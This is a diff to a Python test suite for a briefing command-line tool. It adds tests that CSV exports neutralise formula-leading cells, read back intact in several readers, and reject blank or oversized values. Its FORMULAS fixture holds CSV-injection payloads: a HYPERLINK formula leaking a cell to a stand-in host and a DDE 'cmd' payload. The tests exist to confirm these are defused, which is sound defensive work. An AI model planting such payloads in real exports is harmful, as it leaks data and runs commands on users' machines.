@@ -7,9 +7,12 @@ untrusted text inert, keeps JSON exact, and never writes a file it reads.
 from __future__ import annotations
 
 import copy
+import csv
+import io
 import json
 import os
 import re
+import shutil
 import subprocess
 import sys
 from pathlib import Path
@@ -22,7 +25,7 @@ from hypothesis import strategies as st
 import briefcli.load
 import briefcli.query
 from briefcli.load import MAX_BYTES, BriefingError, parse_briefing
-from tests.conftest import BUNDLED, MINI, brief, brief_process, clean_environment, write_json
+from tests.conftest import BUNDLED, MINI, MINI_ARTICLE, brief, brief_process, clean_environment, write_json
 from tests.test_process import SGR, on_terminal
 
 # --- untrusted files --------------------------------------------------------------
@@ -426,3 +429,277 @@ def test_damaged_bytes_give_problems_never_exceptions(data: st.DataObject) -> No
     cut = data.draw(st.integers(0, len(raw)))
     briefing, problems = parse_briefing(bytes(raw[:cut]))
     assert briefing is not None or problems
+
+
+# --- spreadsheets: CSV that a spreadsheet cannot run and every reader reads back -------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture(scope="module")
+def spreadsheet_briefing(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The mini briefing with a formula in each of several texts, a bare carriage return,
+    a correction, a public-record fact and two pieces of evidence."""
+    document: dict[str, Any] = json.loads(MINI.read_text(encoding="utf-8"))
+    zoe, council = document["actors"]
+    zoe["name"] = {"en": FORMULAS[0]}
+    zoe["aliases"] = [FORMULAS[1], "la maire"]
+    zoe["story"] = {"en": "first line\rsecond line\r\nthird line\nfourth"}
+    zoe["correction"] = {
+        "as_written": "Zoe Angstrom",
+        "corrected": "Zoë Ångström",
+        "note": {"en": FORMULAS[2]},
+        "source": "Town register",
+    }
+    zoe["public_record"] = [{"fact": {"en": "Elected in 2020."}, "source": FORMULAS[3]}]
+    zoe["evidence"].append({"para": 3, "quote": "Nous tiendrons parole."})
+    council["role"] = {"en": FORMULAS[4]}
+    council["story"] = {"en": FORMULAS[5]}
+    document["quotes"][0]["translation"] = "We will\rkeep our word."
+    document["events"][0]["title"] = {"en": "-5 degrees"}
+    path = tmp_path_factory.mktemp("spreadsheet") / "spreadsheet.json"
+    write_json(path, document)
+    assert brief("validate", str(path)).exit_code == 0
+    return path
+
+
+def defused(cell: str) -> str:
+    """OWASP: a cell that begins with = + - @ | % (unless it is a number), a tab or a CR
+    gets a leading apostrophe; defusedcsv also escapes | in such a cell."""
+    if cell[:1] in ("\t", "\r") or (cell[:1] in "=+-@|%" and cell and not re.fullmatch(r"-?[0-9,.]+", cell)):
+        return "'" + cell.replace("|", "\\|") if cell[:1] not in ("\t", "\r") else "'" + cell
+    return cell
+
+
+def flattened(value: Any) -> str:
+    """The CSV cell of a JSON value, as the README documents it."""
+    if value is None:
+        return ""
+    if isinstance(value, list):
+        return "; ".join(flattened(item) for item in value)
+    if isinstance(value, dict) and set(value) == {"para", "quote"}:
+        return f"¶{value['para']} {value['quote']}"
+    if isinstance(value, dict) and "as_written" in value:
+        return f"{value['as_written']} -> {value['corrected']}"
+    if isinstance(value, dict) and "fact" in value:
+        return f"{value['fact']} ({value['source']})"
+    return str(value)
+
+
+LISTINGS = [["actors"], ["timeline"], ["quotes"], ["search", "line"]]
+
+
+@pytest.mark.parametrize("command", LISTINGS, ids=[c[0] for c in LISTINGS])
+def test_csv_rows_are_the_json_records_flattened_and_defused(
+    spreadsheet_briefing: Path, command: list[str]
+) -> None:
+    """Whole rows, every column: lists, evidence, corrections and facts flattened,
+    formula-leading cells neutralised, and the rest exactly the text."""
+    args = [*command, "--data", str(spreadsheet_briefing)]
+    records = json.loads(brief_process(*args, "--json").stdout)
+    run = brief_process(*args, "--format", "csv")
+    assert run.returncode == 0 and records
+    rows = list(csv.reader(io.StringIO(run.stdout.decode("utf-8"), newline="")))
+    assert rows == [list(records[0])] + [
+        [defused(flattened(v)) for v in record.values()] for record in records
+    ]
+
+
+def test_csv_neutralises_every_formula_and_json_keeps_it(spreadsheet_briefing: Path) -> None:
+    args = ["actors", "--data", str(spreadsheet_briefing)]
+    rows = list(
+        csv.DictReader(io.StringIO(brief_process(*args, "--format", "csv").stdout.decode(), newline=""))
+    )
+    zoe, council = rows
+    assert zoe["name"] == "'" + FORMULAS[0]
+    assert zoe["aliases"] == "'" + FORMULAS[1].replace("|", "\\|") + "; la maire"
+    assert council["role"] == "'\t=1+1" and council["story"] == "'\r=1+1"
+    assert not any(cell and cell[0] in "=+-@\t\r" for row in rows for cell in row.values())
+    for fmt in ("json", "jsonl"):
+        text = brief_process(*args, "--format", fmt).stdout.decode()
+        first = json.loads(text)[0] if fmt == "json" else json.loads(text.splitlines()[0])
+        assert first["name"] == FORMULAS[0] and first["aliases"][0] == FORMULAS[1]  # exact
+
+
+def csv_through_sqlite(path: Path, table: str) -> list[list[str]]:
+    sqlite = shutil.which("sqlite3")
+    if sqlite is None:
+        pytest.skip("the sqlite3 command is not installed (Debian: apt-get install sqlite3)")
+    database = path.with_suffix(".db")
+    subprocess.run([sqlite, str(database), f".import --csv {path} {table}"], check=True, capture_output=True)
+    dumped = subprocess.run(
+        [sqlite, "-json", str(database), f"SELECT * FROM {table}"], check=True, capture_output=True
+    ).stdout
+    return [list(row.values()) for row in json.loads(dumped or b"[]")]
+
+
+def csv_through_duckdb(path: Path) -> list[list[str]]:
+    duckdb = pytest.importorskip("duckdb", reason="DuckDB is optional: pip install duckdb to run this")
+    relation = duckdb.read_csv(str(path), header=True, all_varchar=True)
+    return [["" if cell is None else cell for cell in row] for row in relation.fetchall()]
+
+
+@pytest.mark.parametrize("command", LISTINGS, ids=[c[0] for c in LISTINGS])
+def test_every_csv_reads_back_as_written(
+    spreadsheet_briefing: Path, command: list[str], tmp_path: Path
+) -> None:
+    """A bare carriage return is quoted: Python's csv, SQLite and DuckDB all read the
+    records brief wrote, no row split (they were 16 rows for 14 actors)."""
+    args = [*command, "--data", str(spreadsheet_briefing)]
+    written = brief_process(*args, "--format", "csv").stdout
+    path = tmp_path / "out.csv"
+    path.write_bytes(written)
+    _, *rows = list(csv.reader(io.StringIO(written.decode("utf-8"), newline="")))
+    assert len(rows) == len(json.loads(brief_process(*args, "--json").stdout))
+    assert csv_through_sqlite(path, command[0]) == rows
+    assert csv_through_duckdb(path) == rows
+
+
+# --- blank texts, long values, many problems -------------------------------------------
+
+BLANKS = [" ", "\u200b", " \u200d\u00ad ", "\ufeff\t", "\u2060\u200e"]
+
+
+def _set(document: dict[str, Any], path: str, value: Any) -> None:
+    keys = [int(k) if k.isdigit() else k for k in re.findall(r"[^.\[\]]+", path.removeprefix("$"))]
+    node: Any = document
+    for key in keys[:-1]:
+        node = node[key]
+    node[keys[-1]] = value
+
+
+BLANKABLE = [
+    "$.quotes[0].original",
+    "$.quotes[0].translation",
+    "$.source.headline",
+    "$.actors[0].name.en",
+    "$.actors[0].role.fr",
+    "$.actors[0].aliases[0]",
+    "$.actors[1].story.en",
+    "$.events[0].title.en",
+    "$.events[1].detail.en",
+    "$.quotes[0].context.fr",
+    "$.summary.headline.en",
+    "$.summary.key_points[0].text.en",
+    "$.summary.key_points[0].evidence[0].quote",
+]
+
+
+@pytest.mark.parametrize("blank", BLANKS, ids=[repr(b) for b in BLANKS])
+@pytest.mark.parametrize("path", BLANKABLE)
+def test_a_blank_text_is_refused_with_its_path(tmp_path: Path, path: str, blank: str) -> None:
+    document = json.loads(MINI.read_text(encoding="utf-8"))
+    _set(document, path, blank)
+    run = brief("validate", str(write_json(tmp_path / "blank.json", document)), "--json")
+    assert run.exit_code == 1
+    assert [p["path"] for p in run.json()["problems"]] == [path]
+
+
+@pytest.mark.parametrize(
+    ("path", "value"),
+    [
+        ("$.source.published_source", "   "),
+        ("$.events[0].source", "\u200b"),
+        ("$.actors[0].correction", {"as_written": " ", "corrected": "x", "note": {"en": "y"}, "source": "z"}),
+        ("$.actors[0].public_record", [{"fact": {"en": "x"}, "source": "\u00a0"}]),
+    ],
+)
+def test_a_blank_source_is_refused(tmp_path: Path, path: str, value: Any) -> None:
+    document = json.loads(MINI.read_text(encoding="utf-8"))
+    document["source"]["published_basis"] = "public-record"
+    document["source"]["published_source"] = "Town register"
+    document["events"][0]["basis"] = "public-record"
+    document["events"][0]["source"] = "Town register"
+    _set(document, path, value)
+    run = brief("validate", str(write_json(tmp_path / "blank.json", document)), "--json")
+    assert run.exit_code == 1, run.stdout
+    problems = run.json()["problems"]
+    assert len(problems) == 1 and problems[0]["path"].startswith(path)
+    assert "blank" in problems[0]["message"]
+
+
+def test_a_blank_original_is_not_found_verbatim(tmp_path: Path) -> None:
+    document = json.loads(MINI.read_text(encoding="utf-8"))
+    document["quotes"][0]["original"] = " "
+    path = write_json(tmp_path / "blank.json", document)
+    run = brief("validate", str(path), "--source", str(MINI_ARTICLE))
+    assert run.exit_code == 1 and "$.quotes[0].original: is blank" in run.stdout
+    assert "verbatim in" not in run.stdout and "found verbatim" not in run.stdout
+
+
+MEGA = 1_000_000
+
+
+@pytest.mark.parametrize(
+    ("path", "value"),
+    [
+        ("$.actors[0].id", "z" * MEGA),  # then unknown in every reference to the old id
+        ("$.events[0].date", "9" * MEGA),
+        ("$.events[0].kind", "k" * MEGA),
+        ("$.events[0].actors", ["a" * MEGA]),
+        ("$.quotes[0].speaker", "s" * MEGA),
+        ("$.actors[0].affiliation", "-" * MEGA),
+    ],
+    ids=["id", "date", "kind", "reference", "speaker", "bad id"],
+)
+def test_an_echoed_value_is_cut_to_a_readable_length(tmp_path: Path, path: str, value: Any) -> None:
+    document = json.loads(MINI.read_text(encoding="utf-8"))
+    _set(document, path, value)
+    bad = write_json(tmp_path / "big.json", document)
+    message = refused("summary", "--data", str(bad))
+    assert len(message) < 300 + len(str(bad)), message[:300]
+    listed = brief("validate", str(bad)).stdout
+    assert max(len(line) for line in listed.splitlines()) < 300
+
+
+def test_an_unknown_key_of_a_megabyte_is_cut(tmp_path: Path) -> None:
+    document = json.loads(MINI.read_text(encoding="utf-8"))
+    document["actors"][0]["k" * MEGA] = 1
+    message = refused("summary", "--data", str(write_json(tmp_path / "key.json", document)))
+    assert len(message) < 400 and "(1,000,000 characters) (not in the briefing schema)" in message
+
+
+def test_thousands_of_unknown_references_get_a_few_suggestions(tmp_path: Path) -> None:
+    """A suggestion costs a scan of every id: only the first ones get one, so that a
+    file of thousands is refused at once (it took 35 s)."""
+    document = json.loads(MINI.read_text(encoding="utf-8"))
+    document["events"][0]["actors"] = [f"town-councii-{i}" for i in range(2000)]
+    run = brief("validate", str(write_json(tmp_path / "refs.json", document)), "--json")
+    messages = [p["message"] for p in run.json()["problems"]]
+    assert len(messages) == 2000
+    suggested = [m for m in messages if "did you mean" in m]
+    assert suggested == messages[: len(suggested)] and 1 <= len(suggested) <= 20
+
+
+# --- the article given to validate --source ---------------------------------------------
+
+
+def test_an_article_has_a_size_limit() -> None:
+    run = brief_process("validate", "--data", str(MINI), "--source", "/dev/zero")
+    assert (run.returncode, run.stdout) == (1, b"")
+    assert run.stderr == b"brief: /dev/zero: larger than the 16 MiB limit for an article\n"
+
+
+def test_an_article_over_the_limit_is_refused_unread(tmp_path: Path) -> None:
+    article = tmp_path / "huge.txt"
+    with article.open("wb") as file:
+        file.truncate(17 * 2**20)  # sparse
+    run = brief("validate", str(MINI), "--source", str(article))
+    assert (run.exit_code, run.stderr) == (
+        1,
+        f"brief: {article}: larger than the 16 MiB limit for an article\n",
+    )
+
+
+def test_an_article_with_a_byte_order_mark_differs_only_in_its_bytes(tmp_path: Path) -> None:
+    article = tmp_path / "bom.txt"
+    article.write_bytes(b"\xef\xbb\xbf" + MINI_ARTICLE.read_bytes())
+    run = brief("validate", str(MINI), "--source", str(article), "--json")
+    assert [p["path"] for p in run.json()["problems"]] == ["$.source.sha256"]  # no headline problem
